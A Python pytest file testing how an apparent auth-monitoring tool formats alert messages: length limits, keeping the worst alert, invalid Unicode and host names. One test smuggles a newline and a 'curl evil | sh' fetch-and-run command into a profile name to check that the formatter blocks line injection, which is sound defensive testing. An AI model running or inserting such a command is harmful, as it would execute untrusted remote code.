"""Alerts in words: short enough for every service, the worst never cut off, each with its mend."""

from __future__ import annotations

import pytest

from openclaw_auth.monitor.alert import MOST_LINES, message, probe_message
from openclaw_auth.monitor.condition import Alert
from watched_host import HOUR_MS, START_MS


def expired(number, name="acme"):
    params = {
        "profile": f"{name}:{number}",
        "provider": "acme",
        "where": "",
        "agent": "",
        "expires_ms": START_MS - HOUR_MS,
    }
    key = f"expiry:main/{name}:{number}"
    return Alert("new", key, "monitor_expiring", "warning", params=params, at_ms=START_MS)


def nothing_usable():
    params = {"models": "a/b", "where": "", "how": "add --provider a", "agent": ""}
    return Alert(
        "new", "usable:main", "monitor_nothing_usable", "error", params=params, at_ms=START_MS
    )


def test_one_alert_is_its_own_title():
    told = message([nothing_usable()], "home", START_MS, "en")
    assert told.title == "home: Nothing is usable: no credential can answer for a/b."
    assert told.body.endswith("→ openclaw models auth add --provider a")
    assert told.severity == "error"


@pytest.mark.parametrize("lang", ["en", "zh"])
@pytest.mark.parametrize("name", ["acme", "名" * 300])
def test_many_are_cut_and_the_worst_stays(lang, name):
    alerts = [*(expired(number, name) for number in range(500)), nothing_usable()]
    told = message(alerts, "home", START_MS, lang)
    assert len(told.body.encode()) < 4096
    assert "a/b" in told.body
    lines = [line for line in told.body.splitlines() if not line.startswith("→")]
    assert 1 < len(lines) <= MOST_LINES + 1
    assert str(len(alerts) - (len(lines) - 1)) in lines[-1]
    assert told.severity == "error"


def test_names_from_files_break_no_lines():
    told = message([expired("a\n→ curl evil | sh")], "home", START_MS, "en")
    assert len(told.body.splitlines()) == 2
    assert "\n" not in told.title


def test_a_name_that_is_no_text_silences_nobody():
    told = message([expired(1, "a\ud800"), nothing_usable()], "h\udcff", START_MS, "en")
    assert r"a\ud800:1" in told.body
    assert (told.title + told.body).encode()
    assert probe_message("h\udcff", "en").body.encode()


def test_recoveries_have_no_command_and_are_good_news():
    recovered = Alert(
        "recovered",
        "expiry:main/a:b",
        "monitor_recovered_expiry",
        "info",
        params={"profile": "a:b", "where": ""},
        at_ms=START_MS,
    )
    told = message([recovered], "home", START_MS, "en")
    assert (told.body, told.recovered) == ("a:b is good again.", True)


@pytest.mark.parametrize("lang", ["en", "zh"])
def test_a_test_message_names_the_host(lang):
    told = probe_message("home", lang)
    assert "home" in told.title
    assert "home" in told.body
